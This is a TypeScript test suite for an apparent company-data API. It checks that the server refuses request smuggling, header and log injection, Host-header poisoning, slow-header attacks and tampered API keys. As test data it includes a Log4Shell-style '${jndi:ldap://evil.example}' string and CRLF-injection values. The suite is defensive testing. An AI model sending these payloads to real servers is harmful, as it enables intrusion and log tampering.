import { connect } from 'node:net';
import { text } from 'node:stream/consumers';
import { startTcpProxy } from '@firmlens/testkit';
import { type Caller, openAccount, openKey } from '../support/accounts';
import { completeBatch } from '../support/batches';
import { sendRawRequest, type RawResponse, type RawRequest } from '../support/raw-http';
import { expectedRefusal } from '../support/expected-refusal';
import { type Api, newDomain, startApi, WEBHOOK_URL } from '../support/start-api';
import { type CheckedSender, createCheckedSender } from '../support/checked-sender';

let api: Api;
let caller: Caller;
let send: CheckedSender;
let slow: Promise<{ response: RawResponse; seconds: number }>;

beforeAll(async () => {
  api = await startApi();
  caller = await openAccount(api.db);
  await completeBatch(api.db, caller, 'fresh.example');
  send = createCheckedSender(api, caller);
  slow = sendSlowly();
});
afterAll(() => api.stop());

/** Sends a request head that never ends, and waits until the server gives up. */
async function sendSlowly() {
  const started = performance.now();
  const response = await sendRawRequest(api.port, 'GET /api/v1/health HTTP/1.1\r\nHost: a\r\nX-Slow: ');
  return { response, seconds: (performance.now() - started) / 1_000 };
}

const webhook = `X-Webhook-URL: ${WEBHOOK_URL}`;
const INFO = { path: '/account/info' };
const GET_ENDPOINTS = [
  '/account/info',
  '/account/credits',
  '/account/usage',
  '/account/history',
  '/enrichment/batch_x/status',
  '/enrichment/batch_x/results',
  '/health',
];

describe('methods', () => {
  test.each(['/company/', '/company/acme.com', '/company/acme.com/evidence', '/company/https://acme.com/a'])(
    '61  HEAD %s is refused: it would charge for a response that is dropped',
    async (path) => {
      const response = await send({ method: 'HEAD', path, headers: [webhook] });
      expect(response).toMatchObject({ status: 405, text: '', headers: { allow: 'GET' } });
    },
  );

  test.each(['If-None-Match: *', `If-Modified-Since: ${new Date(2e12).toUTCString()}`])(
    '62  %s never gets a 304',
    async (condition) => {
      for (const path of ['/account/info', '/health', '/company/fresh.example']) {
        const response = await send({ path, headers: [condition] });
        expect(response.status).toBe(200);
        expect(response.text).not.toBe('');
      }
    },
  );

  test.each([
    ...GET_ENDPOINTS.flatMap((path) =>
      ['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND'].map(
        (method) => [method, path, 'GET, HEAD'] as const,
      ),
    ),
    ...['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'].flatMap((method) =>
      ['acme.com', 'acme.com/evidence', 'https://acme.com/a'].map(
        (text) => [method, `/company/${text}`, 'GET'] as const,
      ),
    ),
    ...['PUT', 'PATCH', 'DELETE'].map((method) => [method, '/account/webhook', 'GET, HEAD, POST'] as const),
  ])('63  %s %s is refused, with the allowed methods', async (method, path, allow) => {
    const response = await send({ method, path, headers: [webhook] });
    expect(response).toMatchObject({
      ...(method === 'HEAD' ? { status: 405 } : expectedRefusal('method_not_allowed')),
    });
    expect(response.headers['allow']).toBe(allow);
  });

  test.each([...GET_ENDPOINTS, '/company/acme.com', '/account/webhook'])(
    '64  refuses TRACE %s',
    async (path) => {
      const response = await send({ method: 'TRACE', path });
      expect(response).toMatchObject(expectedRefusal('method_not_allowed'));
      expect(response.text).not.toContain(caller.key);
    },
  );

  test.each(['intranet.example:443', '127.0.0.1:5432'])('64  refuses CONNECT %s', async (target) => {
    const response = await send({ method: 'CONNECT', target }, { isDocumented: false });
    expect(response).toMatchObject(expectedRefusal('method_not_allowed'));
    expect(response.headers['allow']).toBe('GET, HEAD, POST');
  });

  test.each(['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'])(
    '65  %s does not override the method',
    async (name) => {
      expect(await send({ ...INFO, headers: [`${name}: DELETE`] })).toMatchObject({ status: 200 });
      const posted = {
        method: 'POST',
        path: '/company/acme.com',
        headers: [`${name}: GET`, webhook],
        body: '_method=GET',
      };
      expect(await send(posted)).toMatchObject(expectedRefusal('method_not_allowed'));
    },
  );
});

/** The key with its last character changed, so its checksum is wrong. */
const mistyped = ({ key }: Caller) => `${key.slice(0, -1)}${key.endsWith('0') ? '1' : '0'}`;

describe('keys', () => {
  test.each<[number, string, (key: string) => RawRequest]>([
    [66, 'no key', () => ({})],
    [67, 'an empty header', () => ({ headers: ['X-API-Key:'] })],
    [67, 'a header of spaces', () => ({ headers: ['X-API-Key:   '] })],
    [67, 'an empty parameter', () => ({ path: '/account/info?api_key=' })],
    [67, 'a scheme alone', () => ({ headers: ['Authorization: Bearer '] })],
    [
      72,
      'Basic',
      (key) => ({ headers: [`Authorization: Basic ${Buffer.from(`${key}:`).toString('base64')}`] }),
    ],
    [72, 'the key as another scheme', (key) => ({ headers: [`Authorization: Token ${key}`] })],
  ])('%i  %s is missing_api_key', async (_number, _what, request) => {
    expect(await send({ ...INFO, ...request(caller.key) }, { key: null })).toMatchObject(
      expectedRefusal('missing_api_key'),
    );
  });

  test.each<[number, string, (key: string) => RawRequest]>([
    [68, 'a wrong checksum', () => ({ headers: [`X-API-Key: ${mistyped(caller)}`] })],
    [68, 'its first half', (key) => ({ headers: [`X-API-Key: ${key.slice(0, 20)}`] })],
    [68, 'another case', (key) => ({ headers: [`X-API-Key: ${key.toUpperCase()}`] })],
    [68, 'a prototype name', () => ({ headers: ['X-API-Key: __proto__'] })],
    [69, 'a space behind it', (key) => ({ path: `/account/info?api_key=${key}%20` })],
    [69, 'a line feed behind it', (key) => ({ path: `/account/info?api_key=${key}%0a` })],
    [69, 'a NUL behind it', (key) => ({ path: `/account/info?api_key=${key}%00` })],
    [69, 'an encoded line feed behind it', (key) => ({ headers: [`X-API-Key: ${key}%0a`] })],
    [70, 'two headers', (key) => ({ headers: [`X-API-Key: ${key}`, `X-API-Key: ${key}`] })],
    [70, 'two headers, one of them wrong', (key) => ({ headers: [`X-API-Key: ${key}`, 'X-API-Key: x'] })],
    [70, 'two empty parameters', () => ({ path: '/account/info?api_key=&api_key=' })],
    [70, 'two parameters', (key) => ({ path: `/account/info?api_key=${key}&api_key=${key}` })],
    [
      70,
      'two parameters, one of them empty',
      (key) => ({ path: `/company/acme.com?api_key=${key}&api_key=` }),
    ],
    [79, 'ANSI escapes in it', () => ({ path: '/account/info?api_key=%1b[31mflk_%1b[0m' })],
    [79, 'a C1 control in it', () => ({ headers: ['X-API-Key: flk_\u009b31m'] })],
  ])('%i  %s is invalid_api_key', async (_number, _what, request) => {
    expect(await send({ ...INFO, ...request(caller.key) }, { key: null })).toMatchObject(
      expectedRefusal('invalid_api_key'),
    );
  });

  test('68  a wrong checksum is detected without the database, which only a plausible key is looked up in', async () => {
    const proxy = await startTcpProxy(api.databaseUrl);
    const second = await startApi({ databaseUrl: proxy.url, redisUrl: api.redisUrl });
    await proxy.shut();
    expect(await second.get('/account/info', { key: mistyped(caller) })).toMatchObject(
      expectedRefusal('invalid_api_key'),
    );
    const unknown = await openKey(api.db, caller);
    expect(await second.get('/account/info', unknown)).toMatchObject(expectedRefusal('internal_error'));
    await second.stop();
  });

  test('69  white space around a header value is ignored', async () => {
    expect(await send({ ...INFO, headers: [`X-API-Key: \t ${caller.key} \t`] }, { key: null })).toMatchObject(
      {
        status: 200,
      },
    );
  });

  test('71  a key of 20 KB gets a 431', async () => {
    const response = await send(INFO, { key: 'k'.repeat(20_000), isDocumented: false });
    expect(response).toMatchObject({ status: 431, body: { success: false, error: 'payload_too_large' } });
  });

  test.each(['Bearer ', 'bearer ', 'BEARER   '])('73  %s is accepted', async (scheme) => {
    const response = await send(
      { ...INFO, headers: [`Authorization: ${scheme}${caller.key}`] },
      { key: null },
    );
    expect(response).toMatchObject({ status: 200, body: { data: { account: { id: caller.accountId } } } });
  });

  test('74  a key in the query of a GET is accepted, and shown nowhere', async () => {
    const response = await send({ path: `/account/info?api_key=${caller.key}` }, { key: null });
    expect(response).toMatchObject({ status: 200, body: { data: { account: { id: caller.accountId } } } });
    const history = await send({ path: '/account/history' });
    expect(history.text).not.toContain('api_key=');
    expect(history.text).not.toContain(caller.key.slice(4, 20));
  });

  test('74  a key in the query of another method is refused', async () => {
    const posted = { method: 'POST', path: `/account/webhook?api_key=${caller.key}`, body: '{}' };
    expect(await send(posted, { key: null })).toMatchObject(expectedRefusal('missing_api_key'));
    const head = { method: 'HEAD', path: `/account/info?api_key=${caller.key}` };
    expect(await send(head, { key: null })).toMatchObject({ status: 401 });
  });

  test.each(['192.0.2.1', '192.0.2.1, 127.0.0.1', '127.0.0.1, 192.0.2.1', "192.0.2.1'--"])(
    '75  X-Forwarded-For: %s is ignored if the sender is not a trusted proxy',
    async (forwarded) => {
      const { key } = await openKey(api.db, caller, { allowIps: ['192.0.2.0/24'] });
      const headers = [`X-Forwarded-For: ${forwarded}`, `X-Real-IP: 192.0.2.1`, `Forwarded: for=192.0.2.1`];
      expect(await send({ ...INFO, headers }, { key })).toMatchObject(expectedRefusal('ip_not_allowed'));
    },
  );
});

describe('before the key is accepted', () => {
  test.each([
    ['broken percent-encoding', '/enrichment/%ff/status'],
    ['a parameter twice', '/account/info?a=1&a=2'],
    ['a bad page', '/account/history?limit=abc'],
    ['no domain', '/company/localhost'],
    ['no domain, evidence', '/company/localhost/evidence'],
    ['the retired mode', '/company/acme.com?mode=cached'],
    ['enrich twice', '/company/acme.com?enrich=a&enrich=b'],
  ])('%s is not reported', async (_what, path) => {
    expect(await send({ path }, { key: null })).toMatchObject(expectedRefusal('missing_api_key'));
    expect(await send({ path }, { key: mistyped(caller) })).toMatchObject(expectedRefusal('invalid_api_key'));
  });
});

describe('request heads', () => {
  test.each([
    ['Host: evil.example'],
    ['Host: evil.example', 'X-Forwarded-Host: evil.example', 'X-Forwarded-Proto: http'],
  ])('76  %s appears in no URL of the response', async (...headers) => {
    const response = await send(
      { path: `/company/${newDomain()}`, headers: [...headers, webhook] },
      { costs: 10 },
    );
    expect(response.status).toBe(202);
    expect(response.text).not.toContain('evil');
    const status = await send({ path: `/enrichment/${String(response.body.batch_id)}/status`, headers });
    expect(status.text).not.toContain('evil');
  });

  test('77  200 header fields are refused', async () => {
    const headers = Array.from({ length: 200 }, (_, index) => `X-${index}: a`);
    expect(await send({ path: '/health', headers }, { isDocumented: false })).toMatchObject(
      expectedRefusal('invalid_parameter'),
    );
  });

  test.each<[string, string, RawRequest]>([
    ['77', 'a folded header', { headers: ['X-A: b\r\n c'] }],
    [
      '77',
      'a length and chunks',
      { headers: ['Content-Length: 3', 'Transfer-Encoding: chunked'], body: '0\r\n\r\n' },
    ],
    ['77', 'two lengths', { headers: ['Content-Length: 2', 'Content-Length: 3'], body: '{}' }],
    ['77', 'a length that is none', { headers: ['Content-Length: -1'] }],
    ['77', 'a coding behind chunks', { headers: ['Transfer-Encoding: chunked, gzip'], body: '0\r\n\r\n' }],
    ['79', 'a header with an escape', { headers: ['X-A: \u001b[31m'] }],
    ['79', 'a key with a line feed', { headers: ['X-API-Key: a\nX-Evil: 1\0'] }],
    ['64', 'a method that nobody knows', { method: 'BREW' }],
    ['', 'no path', { target: '' }],
    ['', 'a path without its slash', { target: 'api/v1/health' }],
  ])('%s  %s is not read as HTTP', async (_number, _what, request) => {
    const response = await send(
      { method: 'POST', path: '/account/webhook', ...request },
      { isDocumented: false },
    );
    expect(response).toMatchObject(expectedRefusal('invalid_parameter'));
  });

  test.each([
    ['bytes that are not HTTP', 'hello\r\n\r\n'],
    ['a TLS handshake', Buffer.from('16030100c8010000c40303', 'hex')],
    ['an HTTP/2 preface', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
    ['HTTP/1.1 without a host', 'GET /api/v1/health HTTP/1.1\r\nConnection: close\r\n\r\n'],
  ])('%s gets an error of the standard shape', async (_what, bytes) => {
    const response = await sendRawRequest(api.port, bytes);
    expect(response).toMatchObject(expectedRefusal('invalid_parameter'));
    expect(response.headers).toMatchObject({
      'content-type': 'application/json; charset=utf-8',
      'x-request-id': expect.any(String),
    });
    expect(api.logLines.at(-1)).toContain(response.headers['x-request-id']);
  });

  test('malformed bytes after a request on its connection do not affect its response', async () => {
    const socket = connect(api.port, '127.0.0.1');
    socket.write(`GET /api/v1/account/info HTTP/1.1\r\nHost: a\r\nX-API-Key: ${caller.key}\r\n\r\n0\r\n\r\n`);
    const responses = await text(socket);
    expect(responses.match(/HTTP\/1\.1 \d{3}/g)).toEqual(['HTTP/1.1 200', 'HTTP/1.1 400']);
  });

  test('ignores an unknown expectation', async () => {
    expect(await send({ ...INFO, headers: ['Expect: the-unexpected'] })).toMatchObject({ status: 200 });
  });

  test.each(['Upgrade: h2c', 'Upgrade: websocket'])('ignores %s', async (upgrade) => {
    expect(await send({ ...INFO, headers: [upgrade, 'Connection: Upgrade'] })).toMatchObject({ status: 200 });
  });

  test.each([
    [
      'X-Webhook-URL: https://a/%0d%0a{"level":"error"}',
      '/company/acme.com',
      expectedRefusal('webhook_required'),
    ],
    ['X-Webhook-URL: https://a/\u009b31m', '/company/acme.com', expectedRefusal('webhook_required')],
    ['X-Request-Id: a\u009b31m', '/account/info', { status: 200 }],
    ['User-Agent: ${jndi:ldap://evil.example}\u009b31m', '/nothing', expectedRefusal('not_found')],
    ['X-A: b', '/company/acme%0a%0d%1b[31m.com', expectedRefusal('invalid_domain')],
    ['X-A: b', '/company/acme%0a{"level":"error"}', expectedRefusal('invalid_domain')],
    ['X-A: b', '/nothing%0a%1b[31m{"level":"error"}', expectedRefusal('not_found')],
    ['X-A: b', '/enrichment/%0a%1b[31m/status', expectedRefusal('batch_not_found')],
  ])('79  %s at %s leaves one line in the log', async (header, path, expected) => {
    expect(await send({ path, headers: [header] })).toMatchObject(expected);
  });

  test.each(['text/html', 'application/xml', 'image/*', '*/*;q=0', 'x'.repeat(5_000)])(
    '80  Accept: %s gets JSON',
    async (accept) => {
      for (const path of ['/account/info', '/nothing', '/health'])
        await send({ path, headers: [`Accept: ${accept}`] });
    },
  );

  test('78  a head that never ends gets a 408 after 10 seconds', async () => {
    const { response, seconds } = await slow;
    expect(response).toMatchObject({ status: 408, body: { success: false, error: 'invalid_parameter' } });
    expect(seconds).toBeGreaterThan(9);
  });
});
